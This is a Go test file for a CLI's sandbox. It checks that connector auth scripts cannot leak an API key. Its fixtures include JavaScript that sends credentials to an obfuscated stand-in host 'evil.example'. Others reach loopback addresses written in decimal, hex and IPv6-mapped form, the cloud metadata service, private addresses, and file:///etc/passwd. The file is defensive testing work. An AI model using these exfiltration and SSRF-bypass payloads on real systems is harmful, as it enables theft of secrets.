package cli_test

import (
	"fmt"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// TestScriptsReachNothingElse runs scripts that send a secret to places that
// they must not reach, by themselves or by the API client.
func TestScriptsReachNothingElse(t *testing.T) {
	t.Parallel()
	other := newCanary(t)
	_, port, _ := strings.Cut(strings.TrimPrefix(other.url, "http://"), ":")
	fetch := func(url string) string {
		return fmt.Sprintf("return (await fetch(%q + '?k=' + credentials.apiKey)).ok;", url)
	}
	const evil = "const evil = ['https', '://', 'evil', 'example'].join('.').replace('.://.', '://'); "
	for name, c := range map[string]struct{ body, want string }{
		"another host":                  {evil + "return (await fetch(evil + '?k=' + credentials.apiKey)).ok;", "evil.example"},
		"another host by the client":    {evil + "return Boolean(await apiClient.get(evil + '/'));", "evil.example"},
		"another base":                  {evil + "return Boolean(await apiClient.get('/x', {}, { baseUri: evil }));", "evil.example"},
		"a loopback address":            {fetch("http://127.0.0.1:" + port + "/"), "a loopback address"},
		"a loopback name":               {fetch("http://localhost:" + port + "/"), "a loopback address"},
		"a loopback address as decimal": {fetch("https://2130706433/"), "FAIL"},
		"a loopback address as hex":     {fetch("https://0x7f.1/"), "FAIL"},
		"a mapped address":              {fetch("https://[::ffff:127.0.0.1]/"), "FAIL"},
		"the metadata service":          {fetch("http://169.254.169.254/latest/"), "FAIL"},
		"the metadata service by TLS":   {fetch("https://169.254.169.254/latest/"), "a link-local address"},
		"a private address":             {fetch("https://10.0.0.1/"), "a private address"},
		"a file":                        {fetch("file:///etc/passwd"), "FAIL"},
		"the environment":               {"return process.env.HOME;", "process"},
		"a module of the system":        {"const os = await import('o' + 's'); return os;", "FAIL"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := writeTree(t, map[string]string{
				"spec.yml":     badSpec[:strings.Index(badSpec, "  test:")] + "  test: {implementationType: javascript}\n",
				"auth/test.js": "export default async function test({ credentials, apiClient }) {\n  " + c.body + "\n}\n",
			})
			w := world{}.with("CONNECTOR_INPUT_API_KEY", badKey)
			o := w.run("test", "--auth", "--live", "--verbose", "--timeout", "3s", dir)
			checkNoLeak(t, o, badKey)
			o.check(t, 1, c.want)
			other.check(t)
		})
	}
}

// TestScriptImportsNoPipe imports a pipe, which nobody writes to.
func TestScriptImportsNoPipe(t *testing.T) {
	t.Parallel()
	dir := writeTree(t, map[string]string{
		"spec.yml":     badSpec[:strings.Index(badSpec, "  test:")] + "  test: {implementationType: javascript}\n",
		"auth/test.js": "import x from './pipe.js';\nexport default () => x;\n",
	})
	if out, err := exec.Command("mkfifo", filepath.Join(dir, "auth", "pipe.js")).CombinedOutput(); err != nil {
		t.Skipf("no pipes here: %v %s", err, out)
	}
	w := world{}.with("CONNECTOR_INPUT_API_KEY", badKey)
	w.run("test", "--auth", "--live", dir).check(t, 1, "pipe.js")
}
